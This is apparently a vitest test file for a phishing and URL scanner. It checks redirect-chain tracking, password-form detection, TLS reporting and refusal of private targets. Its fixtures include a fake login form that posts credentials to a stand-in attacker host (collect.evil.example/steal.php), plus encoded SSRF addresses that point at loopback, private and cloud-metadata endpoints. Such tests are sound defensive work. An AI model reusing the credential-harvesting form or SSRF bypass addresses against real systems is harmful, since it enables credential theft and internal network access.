import { execFile } from 'node:child_process';
import { once } from 'node:events';
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import http from 'node:http';
import https from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importIndicators } from '../src/modules/scans/reputation.js';
import { authHeaders, buildTestApp } from './support/app.js';
import { describeEachEngine, openTestStore, type TestStore } from './support/stores.js';

const CHROMIUM = process.env.CHROMIUM_PATH || '/usr/bin/chromium';
const HAVE_CHROMIUM = existsSync(CHROMIUM);
const PNG_MAGIC = '89504e470d0a1a0a';

/** A local site with every kind of redirect, a phishing-style login page and a private resource. */
function siteHandler(req: http.IncomingMessage, res: http.ServerResponse): void {
  const html = (body: string) => res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(body);
  switch (req.url) {
    case '/start':
      res.writeHead(302, { location: '/hop' }).end();
      return;
    case '/hop':
      res.writeHead(301, { location: '/meta' }).end();
      return;
    case '/meta':
      html('<html><head><meta http-equiv="refresh" content="0; url=/js"><title>Wait</title></head></html>');
      return;
    case '/js':
      html('<html><body><script>location.href = "/login";</script></body></html>');
      return;
    case '/login':
      html(
        '<html><head><title>Sign in &amp; verify</title></head><body>' +
          '<form method="POST" action="http://collect.evil.example/steal.php">' +
          '<input name="user"><input type="password" name="pass"><button>Go</button></form>' +
          // A private address the page tries to load: the browser must be stopped.
          '<img src="http://10.0.0.1/internal.png"><img src="http://127.0.0.2:1/loopback.png">' +
          '</body></html>',
      );
      return;
    case '/to-private':
      res.writeHead(302, { location: 'http://0x7f000002:1/admin' }).end();
      return;
    default:
      html('<html><head><title>Plain</title></head><body>hello</body></html>');
  }
}

async function listen(server: http.Server | https.Server): Promise<number> {
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return (server.address() as AddressInfo).port;
}

async function selfSignedCert(dir: string): Promise<{ key: Buffer; cert: Buffer }> {
  const key = join(dir, 'key.pem');
  const cert = join(dir, 'cert.pem');
  await promisify(execFile)('openssl', [
    'req',
    '-x509',
    '-newkey',
    'rsa:2048',
    '-nodes',
    '-keyout',
    key,
    '-out',
    cert,
    '-days',
    '5',
    '-subj',
    '/CN=self-signed.test',
    '-addext',
    'subjectAltName=DNS:self-signed.test,IP:127.0.0.1',
  ]);
  return { key: await readFile(key), cert: await readFile(cert) };
}

async function waitForScan(app: FastifyInstance, headers: Record<string, string>, id: string) {
  for (let i = 0; i < 600; i++) {
    const res = await app.inject({ method: 'GET', url: `/api/v1/scans/${id}`, headers });
    const body = res.json();
    if (body.state === 'done' || body.state === 'failed') return body;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error(`scan ${id} did not finish`);
}

describe('deep scan browser availability', () => {
  it.runIf(process.env.CI === 'true')('CI has Chromium', () => {
    expect(HAVE_CHROMIUM, `CI=true but no Chromium at ${CHROMIUM}`).toBe(true);
  });
  it.skipIf(HAVE_CHROMIUM || process.env.CI === 'true')(
    `skipping screenshots: no Chromium at ${CHROMIUM}`,
    () => {},
  );
});

describeEachEngine('deep scans', (engine) => {
  let store: TestStore;
  let app: FastifyInstance;
  let analyst: Record<string, string>;
  let viewer: Record<string, string>;
  let site: http.Server;
  let tlsSite: https.Server;
  let port: number;
  let tlsPort: number;
  let dir: string;
  const saved = process.env.VIGIL_SCAN_ALLOW_PRIVATE;

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'vigil-scan-'));
    site = http.createServer(siteHandler);
    port = await listen(site);
    tlsSite = https.createServer(await selfSignedCert(dir), siteHandler);
    tlsPort = await listen(tlsSite);
    // Only the test servers' address is opened; every other private address stays refused.
    process.env.VIGIL_SCAN_ALLOW_PRIVATE = '127.0.0.1/32';
    store = await openTestStore(engine);
    app = await buildTestApp(store);
    analyst = await authHeaders(app, 'analyst');
    viewer = await authHeaders(app, 'viewer');
  });
  afterAll(async () => {
    process.env.VIGIL_SCAN_ALLOW_PRIVATE = saved;
    await app?.close();
    await store?.close();
    site?.close();
    tlsSite?.close();
    await rm(dir, { recursive: true, force: true });
  });

  async function scan(url: string) {
    const res = await app.inject({
      method: 'POST',
      url: '/api/v1/scans',
      headers: analyst,
      payload: { url },
    });
    expect(res.statusCode).toBe(202);
    return waitForScan(app, viewer, res.json().id);
  }

  it('scans a local site: redirect chain of every kind, password form, screenshot', async () => {
    const done = await scan(`http://127.0.0.1:${port}/start`);
    expect(done.state).toBe('done');
    const r = done.report;
    expect(r.refused).toBeNull();
    expect(r.redirectChain[0]).toMatchObject({ status: 302, address: '127.0.0.1', via: 'initial' });
    if (HAVE_CHROMIUM) {
      expect(
        r.redirectChain.map((h: { via: string; url: string }) => [h.via, new URL(h.url).pathname]),
      ).toEqual([
        ['initial', '/start'],
        ['http', '/hop'],
        ['http', '/meta'],
        ['meta-refresh', '/js'],
        ['script', '/login'],
      ]);
      expect(r.finalUrl).toBe(`http://127.0.0.1:${port}/login`);
      expect(r.title).toBe('Sign in & verify');
      expect(r.passwordForms).toEqual([
        {
          action: 'http://collect.evil.example/steal.php',
          method: 'post',
          crossDomain: true,
          insecure: true,
        },
      ]);
      expect(r.screenshot).toMatchObject({ available: true, reason: null });
      const blocked = r.browser.blockedRequests.map(
        (b: { url: string; reason: string }) => b.reason.split(':')[0],
      );
      expect(blocked).toEqual(expect.arrayContaining(['private', 'loopback']));
      const png = await app.inject({
        method: 'GET',
        url: `/api/v1/scans/${done.id}/screenshot`,
        headers: viewer,
      });
      expect(png.statusCode).toBe(200);
      expect(png.headers['content-type']).toBe('image/png');
      expect(png.rawPayload.subarray(0, 8).toString('hex')).toBe(PNG_MAGIC);
      expect(png.rawPayload.length).toBeGreaterThan(100);
      expect(done.verdict).toBe('malicious');
      expect(r.reasons.map((x: { code: string }) => x.code)).toEqual(
        expect.arrayContaining([
          'password-form-cross-domain',
          'password-form-insecure',
          'many-redirects',
          'ip-host',
        ]),
      );
    } else {
      expect(r.screenshot.available).toBe(false);
      expect(r.screenshot.reason).toMatch(/Chromium is not installed/);
    }
    expect(r.headers['content-type']).toMatch(/text\/html/);
    expect(r.dns).toBeNull(); // an IP host has no DNS answers to report
  }, 60_000);

  it('reports a self-signed certificate', async () => {
    const done = await scan(`https://127.0.0.1:${tlsPort}/`);
    const tls = done.report.tls;
    expect(tls).toMatchObject({
      valid: false,
      selfSigned: true,
      hostMatches: true,
      keyType: 'rsa',
      keyBits: 2048,
    });
    expect(tls.problems.join(' ')).toMatch(/SELF_SIGNED/);
    expect(tls.subject).toContain('CN=self-signed.test');
    expect(tls.subjectAltNames).toEqual(['DNS:self-signed.test', 'IP Address:127.0.0.1']);
    expect(tls.daysToExpiry).toBeGreaterThanOrEqual(3);
    expect(tls.signatureAlgorithm).toBe('sha256WithRSAEncryption');
    expect(tls.protocol).toMatch(/^TLSv1\.[23]$/);
    expect(done.report.reasons.map((x: { code: string }) => x.code)).toEqual(
      expect.arrayContaining(['tls-self-signed', 'tls-young']),
    );
  }, 60_000);

  it('refuses private targets and redirects into them, with the reason', async () => {
    const direct = await scan('http://10.1.2.3/');
    expect(direct.state).toBe('done');
    expect(direct.report.refused).toMatchObject({ reason: 'private' });
    expect(direct.report.redirectChain).toEqual([]);
    expect(direct.hasScreenshot).toBe(false);
    const encoded = await scan('http://0251.0376.0251.0376/latest/meta-data/');
    expect(encoded.report.refused.reason).toBe('cloud-metadata');
    const hop = await scan(`http://127.0.0.1:${port}/to-private`);
    expect(hop.report.refused).toMatchObject({ reason: 'loopback' });
    expect(hop.report.redirectChain.map((h: { url: string }) => h.url)).toEqual([
      `http://127.0.0.1:${port}/to-private`,
      'http://127.0.0.2:1/admin',
    ]);
    expect(hop.report.reasons[0].code).toBe('refused');
  }, 60_000);

  it('a blocklisted URL is malicious whatever the page looks like', async () => {
    const url = `http://127.0.0.1:${port}/plain`;
    await importIndicators(store.db, 'openphish', [{ type: 'url', value: url, firstSeen: null }], new Date());
    const done = await scan(url);
    expect(done.report.reputation[0]).toMatchObject({
      blocklisted: true,
      matches: [{ type: 'url', source: 'openphish' }],
    });
    expect(done.verdict).toBe('malicious');
    expect(done.riskScore).toBeGreaterThanOrEqual(95);
  }, 60_000);

  it('checks input and roles; lists scans', async () => {
    const bad = await app.inject({
      method: 'POST',
      url: '/api/v1/scans',
      headers: analyst,
      payload: { url: 'ftp://x.example/' },
    });
    expect(bad.statusCode).toBe(400);
    const forbidden = await app.inject({
      method: 'POST',
      url: '/api/v1/scans',
      headers: viewer,
      payload: { url: 'https://example.com/' },
    });
    expect(forbidden.statusCode).toBe(403);
    const list = await app.inject({ method: 'GET', url: '/api/v1/scans?limit=2', headers: viewer });
    expect(list.statusCode).toBe(200);
    expect(list.json().items).toHaveLength(2);
    expect(list.json().total).toBeGreaterThanOrEqual(4);
    const missing = await app.inject({
      method: 'GET',
      url: '/api/v1/scans/00000000-0000-4000-8000-000000000000',
      headers: viewer,
    });
    expect(missing.statusCode).toBe(404);
  });
});
